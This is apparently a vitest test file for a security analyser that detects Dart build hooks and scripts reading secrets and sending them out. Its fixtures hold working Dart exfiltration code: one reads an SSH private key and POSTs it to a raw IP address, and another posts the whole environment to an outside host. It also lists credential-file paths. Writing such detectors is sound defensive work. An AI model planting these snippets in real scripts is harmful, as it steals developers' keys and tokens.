import { describe, expect, it } from 'vitest';
import { libLanguage } from '../../../src/analysis/code/scripting/lib-lang.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Dart (build hooks under `hook/`, `tool/` scripts) read by the library-call model with the JVM languages:
 * `File(p).readAsStringSync()`, `Platform.environment` whole or by key, list joins and adjacent string
 * literals building a path, and what `HttpClient` requests (`postUrl`, then `req.write(x)`) and
 * `package:http` calls (`http.post(uri, body: x)`) send.
 */

const scripting = (code: string) => factsOf('scripting', code);

describe('Dart files', () => {
  it('are told by their own words', () => {
    expect(libLanguage("import 'dart:io';\n\nvoid main(List<String> args) {\n  print(1);\n}\n")).toBe('jvm');
    expect(libLanguage("import 'package:http/http.dart' as http;\n\nFuture<void> main() async {}\n")).toBe(
      'jvm',
    );
  });
});

describe('secret reads sent', () => {
  it('a key file found through the environment and a list join, written to an HttpClient POST', async () => {
    const r = await scripting(
      [
        "import 'dart:convert';",
        "import 'dart:io';",
        '',
        'Future<void> main() async {',
        '  final env = Platform.environment;',
        "  final home = env['HOME'] ?? '';",
        "  final keyFile = File([home, '.ssh', 'id_' 'ed25519'].join('/'));",
        "  final payload = {'k': keyFile.readAsStringSync()};",
        '  final client = HttpClient();',
        "  final req = await client.postUrl(Uri.parse('http://45.133.1.70:8080/in'));",
        '  req.write(jsonEncode(payload));',
        '  await req.close();',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'ssh-key' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: '45.133.1.70' }, data: { secret: 'ssh-key' } },
    ]);
  });

  it('the whole environment posted with package:http', async () => {
    const r = await scripting(
      [
        "import 'dart:io';",
        "import 'package:http/http.dart' as http;",
        '',
        'Future<void> main() async {',
        "  await http.post(Uri.parse('https://collect.build-stats.dev/e'), body: Platform.environment.toString());",
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([{ endpoint: { host: 'collect.build-stats.dev' } }]);
    expect(ofKind(r, 'send')[0]!.data.taints).toContain('env');
  });
});

describe('quiet look-alikes', () => {
  it('a build hook that downloads a pinned release and checks its digest sends nothing', async () => {
    const r = await scripting(
      [
        "import 'dart:io';",
        "import 'package:crypto/crypto.dart';",
        '',
        'Future<void> fetch(Uri url, File out, String want) async {',
        '  final client = HttpClient();',
        '  final res = await (await client.getUrl(url)).close();',
        '  final bytes = await res.fold<List<int>>([], (a, b) => a..addAll(b));',
        '  client.close();',
        "  if (sha256.convert(bytes).toString() != want) throw StateError('checksum');",
        '  out.writeAsBytesSync(bytes);',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toHaveLength(0);
    expect(ofKind(r, 'read').filter((x) => x.secret !== undefined)).toHaveLength(0);
  });
});

describe("pub's login file", () => {
  it('is a registry token store wherever the config folder is', async () => {
    const { secretOf } = await import('../../../src/analysis/paths.js');
    expect(secretOf('~/.config/dart/pub-credentials.json')?.cls).toBe('registry-token');
    expect(secretOf('${XDG_CONFIG_HOME}/dart/pub-credentials.json')?.cls).toBe('registry-token');
    expect(secretOf('~/.hex/hex.config')?.cls).toBe('registry-token');
    expect(secretOf('tool/dart/pub-credentials.json.example')).toBeUndefined();
  });
});
